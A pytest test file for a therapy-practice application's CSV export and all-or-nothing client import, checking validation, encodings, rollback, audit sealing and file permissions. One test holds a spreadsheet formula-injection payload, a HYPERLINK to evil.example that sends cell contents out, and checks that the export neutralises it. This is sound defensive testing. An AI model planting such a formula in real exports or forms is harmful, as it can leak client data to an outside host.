"""CSV export, and the all-or-nothing CSV import of clients with its report of bad rows."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from knoop.errors import BadInput
from knoop.fhir.csvio import export_csv, import_clients
from tests.demo_practice import Demo

GOOD = ("voornaam;tussenvoegsel;achternaam;geboortedatum;e-mail;telefoon;huisarts\n"
        "Jan;van;Dijk;01-02-1980;jan@voorbeeld.nl;06-1;Dr. Wit\n"
        "Marie;;Claes;1975-12-01;;;\n")


def _count(demo: Demo) -> int:
    return len(demo.store.search_clients(demo.therapist, "", limit=500))


def test_export_writes_sessions_findings_treatments(demo: Demo, tmp_path: Path) -> None:
    counts = export_csv(demo.store, demo.therapist, tmp_path)
    assert counts == {"clients": 5, "sessions": 15, "findings": 43, "treatments": 30,
                      "diary": 0}
    with (tmp_path / "findings.csv").open(encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f, delimiter=";"))
    assert len(rows) == 43 and {"muscle", "side", "result"} <= set(rows[0])
    assert (tmp_path / "sessions.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_good_file_imports_all_rows(demo: Demo) -> None:
    before = _count(demo)
    dry = import_clients(GOOD.encode(), demo.store, demo.therapist, dry_run=True)
    assert dry.ok and len(dry.rows) == 2 and _count(demo) == before
    rep = import_clients(GOOD.encode(), demo.store, demo.therapist)
    assert rep.created == 2 and _count(demo) == before + 2
    jan = demo.store.search_clients(demo.therapist, "dijk")[0]
    assert str(jan.date_of_birth) == "1980-02-01"


BAD = {
    "wrong columns": ("naam;geboortedatum\nJan Dijk;1980-01-01\n",
                      [(1, "unknown column(s) 'naam'"), (1, "missing column(s) first_name")]),
    "missing column": ("voornaam;geboortedatum\nJan;1980-01-01\n", [(1, "missing column")]),
    "bad dates": (("voornaam;achternaam;geboortedatum\nJan;Dijk;31-02-1980\n"
                   "Piet;Bos;gisteren\nKlaas;Vos;1850-01-01\n"),
                  [(2, "not a date"), (3, "not a date"), (4, "plausible")]),
    "duplicate in file": (("voornaam;achternaam;geboortedatum\nJan;Dijk;1980-01-01\n"
                           "Ed;Bos;\njan;DIJK;01-01-1980\n"),
                          [(4, "same name and date of birth as line 2")]),
    "already stored": ("first_name,infix,last_name,date_of_birth\nAnna,de,Vries,1978-04-12\n",
                       [(2, "already stored")]),
    "ragged row": ("voornaam;achternaam\nJan;Dijk;extra\n", [(2, "3 fields")]),
    "empty name": ("voornaam;achternaam\nJan;\n", [(2, "last_name is empty")]),
    "bad e-mail": ("voornaam;achternaam;email\nJan;Dijk;geen-mail\n", [(2, "e-mail")]),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_malformed_files_report_every_bad_row_and_import_nothing(demo: Demo, case: str) -> None:
    text, expected = BAD[case]
    before = _count(demo)
    for dry_run in (True, False):
        rep = import_clients(text.encode(), demo.store, demo.therapist, dry_run=dry_run)
        assert not rep.ok and rep.created == 0
        got = [(e.line, e.reason) for e in rep.errors]
        assert len(got) == len(expected), got
        for (line, reason), (eline, ereason) in zip(got, expected, strict=True):
            assert line == eline and ereason in reason, got
    assert _count(demo) == before


def test_wrong_encoding_is_named(demo: Demo) -> None:
    data = "voornaam;achternaam\nJosé;Müller\n".encode("cp1252")
    rep = import_clients(data, demo.store, demo.therapist)
    assert not rep.ok and rep.errors[0].line == 2
    assert "not UTF-8" in rep.errors[0].reason and "Windows-1252" in rep.errors[0].reason
    rep = import_clients("voornaam;achternaam\n".encode("utf-16"), demo.store, demo.therapist)
    assert "UTF-16" in rep.errors[0].reason
    assert _count(demo) == 5


def test_a_field_over_128_kib_is_a_row_error_not_a_traceback(demo: Demo) -> None:
    data = ("voornaam;achternaam\nAnna;" + "x" * (130 * 1024) + "\n").encode()
    rep = import_clients(data, demo.store, demo.therapist)
    assert not rep.ok and rep.errors[0].line == 2
    assert "longer than 128 KiB" in rep.errors[0].reason
    assert _count(demo) == 5


def test_a_failure_half_way_rolls_back_every_row(demo: Demo,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from knoop.store import Store

    real = Store.create_client
    calls = {"n": 0}

    def flaky(self, actor, **kw):  # type: ignore[no-untyped-def]
        calls["n"] += 1
        if calls["n"] == 2:
            raise BadInput("simulated failure")
        return real(self, actor, **kw)

    monkeypatch.setattr(Store, "create_client", flaky)
    log_before = len(demo.store.access_for_client(6))
    with pytest.raises(BadInput, match="line 3"):
        import_clients(GOOD.encode(), demo.store, demo.therapist)
    monkeypatch.setattr(Store, "create_client", real)
    assert _count(demo) == 5  # the first client is gone too
    assert len(demo.store.access_for_client(6)) == log_before
    assert demo.store.verify_access_log().ok


def test_formula_cells_are_quoted_also_from_an_intake_link(demo: Demo, tmp_path: Path) -> None:
    """Issue 13: a complaint typed through an intake link must not run in a spreadsheet."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    token = demo.store.create_intake_token(demo.therapist, 1)
    demo.store.use_intake_token(token, {"complaint": evil})
    export_csv(demo.store, demo.therapist, tmp_path / "out")
    with (tmp_path / "out" / "sessions.csv").open(encoding="utf-8-sig") as f:
        cells = [c for row in csv.reader(f, delimiter=";") for c in row]
    assert "'" + evil in cells and evil not in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


@pytest.mark.parametrize("text", ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", " =1"])
def test_every_formula_start_is_neutralised(text: str) -> None:
    from knoop.fhir.csvio import neutral
    assert neutral(text) == "'" + text
    assert neutral("Hoofdpijn - links") == "Hoofdpijn - links"


def test_export_files_are_readable_by_the_owner_only(demo: Demo, tmp_path: Path) -> None:
    export_csv(demo.store, demo.therapist, tmp_path / "out")
    assert oct((tmp_path / "out").stat().st_mode & 0o777) == "0o700"
    for name in ("sessions", "findings", "treatments"):
        assert oct((tmp_path / "out" / f"{name}.csv").stat().st_mode & 0o777) == "0o600"


def test_an_import_is_sealed_with_the_instance_key_and_anchored(tmp_path: Path) -> None:
    """Issue 13: the import's own store must seal its log rows with the instance's key."""
    from knoop.store import Store, make_engine, upgrade
    from knoop.store.audit import read_anchor

    eng = make_engine(f"sqlite:///{tmp_path / 'k.sqlite3'}")
    upgrade(eng)
    st = Store(eng, audit_key=b"an instance key of at least 32 bytes!",
               audit_anchor=tmp_path / "audit.anchor")
    p = st.create_practice("P")
    me = st.create_user(p.id, "a@b.nl", "therapist", "Zomer in Zeeland met de fiets").actor
    assert import_clients(GOOD.encode(), st, me).created == 2
    report = st.verify_access_log()
    assert report.ok, report.problem
    anchored = read_anchor(tmp_path / "audit.anchor")
    assert anchored is not None and anchored[0] == report.rows
